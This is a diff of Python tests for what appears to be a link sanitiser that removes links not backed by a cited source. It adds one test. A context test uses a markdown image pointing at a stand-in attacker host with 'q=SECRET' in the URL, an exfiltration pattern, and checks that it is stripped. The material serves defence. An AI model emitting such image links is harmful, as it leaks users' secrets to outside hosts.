@@ -69,6 +69,11 @@ async def test_a_link_stays_only_where_the_section_cites_a_source_that_holds_it(
     ]
 
 
+async def test_a_section_that_cites_nothing_may_hold_a_link_of_any_source() -> None:
+    sections, _ = await hear(("See https://other.example/page and https://evil.example/.", ()))
+    assert sections[0]["text"] == "See https://other.example/page and …."
+
+
 async def test_a_section_that_was_a_link_and_nothing_else_is_left_out() -> None:
     sections, events = await hear(("![](https://evil.example/?q=SECRET)", ("d:0",)), ("Twenty-five days.", ("d:0",)))
     assert [section["text"] for section in sections] == ["Twenty-five days."]
